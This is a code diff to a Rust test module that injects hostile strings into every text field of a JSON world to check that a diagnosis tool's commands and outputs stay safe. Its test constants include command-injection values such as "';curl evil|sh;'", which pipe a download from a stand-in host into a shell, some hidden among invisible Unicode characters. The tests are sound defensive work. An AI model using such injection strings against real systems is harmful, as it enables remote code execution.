@@ -16,7 +16,7 @@ use crate::{
     diagnose::{
         Diagnosis, diagnose,
         testing::{
-            outputs::{Told, every_output},
+            outputs::{Told, every_output, later_output},
             world::World,
         },
     },
@@ -31,9 +31,13 @@ const UNSEEN: &str = "-x;curl evil|sh\n\u{202e}\u{200b}\u{e0041}";
 /// A hostile end of a text that begins as it should.
 const END: &str = "';curl evil|sh;'";
 
-/// Bytes of a world that is cut before. The tests with thousands of objects have them.
+/// In each of them.
+const EVIL: &str = "evil";
+
+/// Bytes of a world in which not every text is replaced alone. The tests with thousands of objects have them.
 const LARGE: usize = 20_000;
-/// What stays of a list of equals in a large world.
+/// Of a list of equals in a large world, so many have each of their texts replaced alone. In all of them, the texts of one
+/// field are replaced together.
 const OF_EACH: usize = 4;
 
 /// Cuts what repeats itself: lists of texts, and the objects of one type.
@@ -63,6 +67,7 @@ fn cut(value: &mut Value) {
 pub(crate) fn withstands_strangers(world: &World, target: &Object, asked: &Facts, knowledge: &Knowledge) {
     let mut whole = json!({"target": target, "world": world.to_json()});
     if whole.to_string().len() > LARGE {
+        replace_each_field(world, &whole, (asked, knowledge));
         cut(&mut whole);
     }
     let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
@@ -84,6 +89,40 @@ pub(crate) fn withstands_strangers(world: &World, target: &Object, asked: &Facts
             });
             check(world, &replaced, (asked, knowledge), key);
         }
+    }
+}
+
+/// Replaces all texts of one field together, wherever that field stands in the world, one field after another.
+#[track_caller]
+fn replace_each_field(world: &World, whole: &Value, read: (&Facts, &Knowledge)) {
+    let mut fields = BTreeSet::new();
+    each_text(&mut whole.clone(), "", &mut |field, _| {
+        fields.insert(field.to_owned());
+    });
+    for field in &fields {
+        for hostile in [SEEN, UNSEEN] {
+            let mut replaced = whole.clone();
+            each_text(&mut replaced, "", &mut |at, text| {
+                if at == field {
+                    hostile.clone_into(text);
+                }
+            });
+            check(world, &replaced, read, field);
+        }
+    }
+}
+
+/// Each text with its field. The items of a list are one field.
+fn each_text(value: &mut Value, field: &str, on: &mut impl FnMut(&str, &mut String)) {
+    match value {
+        Value::String(text) => on(field, text),
+        Value::Array(items) => items.iter_mut().for_each(|item| each_text(item, field, on)),
+        Value::Object(fields) => {
+            for (key, value) in fields {
+                each_text(value, &format!("{field}/{key}"), on);
+            }
+        }
+        _ => {}
     }
 }
 
@@ -150,7 +189,11 @@ fn check(world: &World, replaced: &Value, (asked, knowledge): (&Facts, &Knowledg
     for command in diagnosis.steps.iter().filter_map(|step| step.command.as_ref()) {
         check_command(command, text);
     }
-    let told = every_output(&world, &target, (&diagnosis, &facts), knowledge);
+    let mut told = every_output(&world, &target, (&diagnosis, &facts), knowledge);
+    // The rest is made of the object and of its explanation.
+    if target.value.to_string().contains(EVIL) || told[0].json.to_string().contains(EVIL) {
+        told.extend(later_output(&world, &target, (&diagnosis, &facts), knowledge));
+    }
     for one in &told {
         check_told(one, text);
     }
